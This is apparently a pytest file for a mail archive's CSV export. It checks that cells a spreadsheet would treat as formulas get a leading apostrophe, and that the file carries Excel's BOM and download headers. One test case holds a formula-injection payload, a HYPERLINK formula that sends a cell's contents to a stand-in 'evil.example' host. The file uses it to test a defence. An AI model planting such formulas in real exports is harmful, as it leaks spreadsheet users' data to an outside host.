"""A table as a file for a spreadsheet: Japanese is read, and nothing that came by mail is calculated."""

from __future__ import annotations

import csv
import io

import pytest

from archiver.site.spreadsheets import opened
from tests.site.sample_site import Visit


@pytest.mark.parametrize(
    ("cell", "seen"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+81-3-0000-0000", "'+81-3-0000-0000"),
        ("-懇親会", "'-懇親会"),
        ("\t=1+1", "'\t=1+1"),
        ("-12.5", "-12.5"),
        ("平成23年度", "平成23年度"),
        ("あ" * 200_000, "あ" * 200_000),
    ],
)
def test_nothing_is_calculated(cell: str, seen: str) -> None:
    """What a spreadsheet would take for a formula has an apostrophe before it; a number is a number."""
    file = io.StringIO(newline="")
    csv.writer(file).writerows([["件名"], [cell]])
    made = opened(file.getvalue().encode()).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(made, newline=""))) == [["件名"], [seen]]


def test_a_table_is_saved_as_a_file_that_excel_reads(officer: Visit) -> None:
    """Under the table's name, with the mark by which Excel knows its characters; an error is no file."""
    answer = officer.get("/archive/mail.csv?_size=max")
    assert answer.content.startswith("\ufeff".encode())
    assert answer.headers["content-disposition"] == 'attachment; filename="mail.csv"'
    assert answer.headers["content-type"].startswith("text/csv")
    assert len(list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))) > 5
    assert "content-disposition" not in officer.get("/archive/mail.csv?_stream=1").headers
